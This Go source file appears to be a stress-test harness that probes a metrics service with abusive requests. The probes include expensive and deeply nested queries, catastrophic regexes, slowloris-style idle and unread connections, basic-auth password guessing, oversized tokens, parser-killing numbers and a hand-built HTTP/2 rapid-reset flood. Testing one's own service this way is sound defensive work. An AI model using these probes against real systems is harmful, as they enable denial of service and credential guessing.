package main

import (
	"context"
	"crypto/tls"
	"encoding/binary"
	"fmt"
	"io"
	"net"
	"net/http"
	"net/url"
	"strings"
	"time"
)

var dear = []string{
	`sum_over_time(vector(1)[1y:1ms])`, `max_over_time(sum_over_time(vector(1)[1d:1ms])[1d:1s])`, `sum_over_time(max_over_time(min_over_time(up[1h:1s])[1h:1s])[1h:1s])`, `sum_over_time(vector(1)[1000s:1ms])`,
	strings.Repeat("1^", 20000) + "1", strings.Repeat("(", 20000) + "1" + strings.Repeat(")", 20000), `{__name__=~"(a|b){1,999}(c|d){1,999}"}`,
	`quantile_over_time(0.9, {__name__=~".+"}[1h])`, `count_values("x", {__name__=~".+"})`, strings.Repeat(`label_join(`, 40) + `up` + strings.Repeat(`, "a", "b", "a", "a")`, 40),
}

// expensive asks for what costs.
func expensive(ctx context.Context, a *attack, n int) string {
	v := url.Values{"query": {dear[n%len(dear)]}}
	path := "/api/v1/query"
	if n%3 == 0 {
		now := time.Now().Unix()
		path, v["start"], v["end"], v["step"] = "/api/v1/query_range", []string{fmt.Sprint(now - 10_000)}, []string{fmt.Sprint(now)}, []string{"1"}
	}
	return a.ask(ctx, fromInsider, "insider", http.MethodPost, path, []byte(v.Encode()), form)
}

func form(r *http.Request) { r.Header.Set("Content-Type", "application/x-www-form-urlencoded") }

// format asks for an expression to be written nicely.
func format(ctx context.Context, a *attack, n int) string {
	deep := []int{90, 400, 20000}[n%3]
	return a.ask(ctx, fromInsider, "insider", http.MethodPost, "/api/v1/format_query", []byte("query="+url.QueryEscape(strings.Repeat("1^", deep)+"1")),
		form)
}

// historical asks for all that there ever was.
func historical(ctx context.Context, a *attack, n int) string {
	path := []string{"/nodes/" + own + "/metrics-aggregated/average,max,95-perc/cpu/usage_rate?start=1901-01-01T00:00:00Z&bucket=25d",
		"/nodes/" + own + "/metrics/memory/working_set?start=1970-01-01T00:00:00Z", "/namespaces/demo/metrics-aggregated/median,99-perc/cpu/usage_rate?start=1901-01-01T00:00:00Z&bucket=500ms"}[n%3]
	return a.ask(ctx, fromInsider, "insider", http.MethodGet, "/api/v1/historical"+path, nil, nil)
}

// login tries passwords, of users that there are too.
func login(ctx context.Context, a *attack, n int) string {
	return a.ask(ctx, fromHostile, "", http.MethodGet, "/plimsoll/v1/overview", nil, func(r *http.Request) {
		r.SetBasicAuth([]string{"honest", "reader", "root"}[n%3], fmt.Sprint("guess", n))
	})
}

// otherSite asks as a page of another site does.
func otherSite(ctx context.Context, a *attack, _ int) string {
	return a.ask(ctx, fromHostile, "insider", http.MethodGet, "/api/v1/query?query=up", nil, func(r *http.Request) {
		r.Header.Set("Sec-Fetch-Site", "cross-site")
		r.Header.Set("Sec-Fetch-Mode", "no-cors")
		r.Header.Set("Sec-Fetch-Dest", "image")
	})
}

// raw opens a connection of its own.
func (a *attack) raw(ctx context.Context, from string, protocols ...string) (net.Conn, error) {
	d := net.Dialer{LocalAddr: &net.TCPAddr{IP: net.ParseIP(from)}, Timeout: 10 * time.Second}
	c, err := d.DialContext(ctx, "tcp", a.p.addr)
	if err != nil || len(protocols) == 0 {
		return c, err
	}
	t := tls.Client(c, &tls.Config{RootCAs: a.p.roots, ServerName: "127.0.0.1", NextProtos: protocols})
	if err := t.HandshakeContext(ctx); err != nil {
		_ = c.Close()
		return nil, err
	}
	return t, nil
}

// hold keeps a connection until the other side ends it, or the time is over.
func hold(ctx context.Context, c net.Conn, long time.Duration) string {
	stop := context.AfterFunc(ctx, func() { _ = c.Close() })
	defer stop()
	_ = c.SetReadDeadline(time.Now().Add(long))
	if _, err := c.Read(make([]byte, 1)); err == nil || ctx.Err() != nil || strings.Contains(err.Error(), "timeout") {
		return "held"
	}
	return "closed"
}

// idle opens a connection and asks nothing.
func idle(ctx context.Context, a *attack, _ int) string {
	c, err := a.raw(ctx, fromHostile)
	if err != nil {
		return "refused"
	}
	defer c.Close()
	return hold(ctx, c, time.Minute)
}

// slowReader asks for much and does not read it.
func slowReader(ctx context.Context, a *attack, n int) string {
	return a.unread(ctx, n, "/api/v1/query_range?query="+url.QueryEscape(`{__name__=~".+"}`)+
		fmt.Sprintf("&start=%d&end=%d&step=1", time.Now().Unix()-600, time.Now().Unix()))
}

// slowPicture asks for all that the picture has, in every form, and does not read it.
func slowPicture(ctx context.Context, a *attack, n int) string {
	return a.unread(ctx, n, []string{"/plimsoll/v1/containers?limit=10000", "/plimsoll/v1/overview", "/plimsoll/v1/nodes", "/api/v1/metric-export", "/plimsoll/v1/missing"}[n%5])
}

// stream opens a stream of a view that nobody else has, small or of all that there is, and does not read it.
func stream(ctx context.Context, a *attack, n int) string {
	limit := 100 + n%400
	if n%2 == 0 {
		limit = 10_000 - n%400
	}
	return a.unread(ctx, n, fmt.Sprintf("/plimsoll/v1/stream?limit=%d&q=%s", limit, []string{"", "x", "m"}[n%3]))
}

// hugeQuantity asks with a quantity on which its parser would work for hours.
func hugeQuantity(ctx context.Context, a *attack, n int) string {
	return a.ask(ctx, fromInsider, "insider", http.MethodGet, "/plimsoll/v1/fit?cpu="+[]string{"9E-700000000", "9E70000000000000000", "1e99999999"}[n%3], nil, nil)
}

// token shows tokens that are none, ever new ones, some as long as a header may be.
func token(ctx context.Context, a *attack, n int) string {
	return a.ask(ctx, fromHostile, "", http.MethodGet, "/plimsoll/v1/overview", nil, func(r *http.Request) {
		r.Header.Set("Authorization", fmt.Sprint("Bearer ", n, strings.Repeat("x", []int{10, 50_000, 1 << 20}[n%3])))
	})
}

// unread asks and reads the first byte.
func (a *attack) unread(ctx context.Context, n int, path string) string {
	c, err := a.raw(ctx, fromInsider, "http/1.1")
	if err != nil {
		return "refused"
	}
	defer c.Close()
	r, err := a.p.request(ctx, http.MethodGet, path, "insider", nil)
	if err != nil {
		return "not sent"
	}
	if err := r.Write(c); err != nil {
		return "not sent"
	}
	first := make([]byte, 12)
	_ = c.SetReadDeadline(time.Now().Add(30 * time.Second))
	if _, err := io.ReadFull(c, first); err != nil {
		return "no answer"
	}
	if said := string(first[9:]); said != "200" {
		return said
	}
	_ = sleep(ctx, time.Duration(5+n%20)*time.Second)
	return "200 unread"
}

// resets begins requests by HTTP/2 and takes them back at once, five hundred in a go.
func resets(ctx context.Context, a *attack, _ int) string {
	c, err := a.raw(ctx, fromInsider, "h2")
	if err != nil {
		return "refused"
	}
	defer c.Close()
	go func() { _, _ = io.Copy(io.Discard, c) }() // until the connection is closed
	out := []byte("PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n")
	frame := func(kind, flags byte, id uint32, body []byte) {
		out = append(out, byte(len(body)>>16), byte(len(body)>>8), byte(len(body)), kind, flags)
		out = append(binary.BigEndian.AppendUint32(out, id), body...)
	}
	const settings, headers, reset, endStream, endHeaders, cancelled = 4, 1, 3, 1, 4, 8
	frame(settings, 0, 0, nil)
	head := []byte{0x82, 0x87, 0x84, 0x41, byte(len(a.p.addr))} // GET, https, /, and the authority that follows
	head = append(head, a.p.addr...)
	for i := range uint32(500) {
		frame(headers, endStream|endHeaders, 2*i+1, head)
		frame(reset, 0, 2*i+1, []byte{0, 0, 0, cancelled})
	}
	_ = c.SetWriteDeadline(time.Now().Add(10 * time.Second))
	if _, err := c.Write(out); err != nil {
		return "closed"
	}
	_ = sleep(ctx, time.Second)
	return "sent"
}
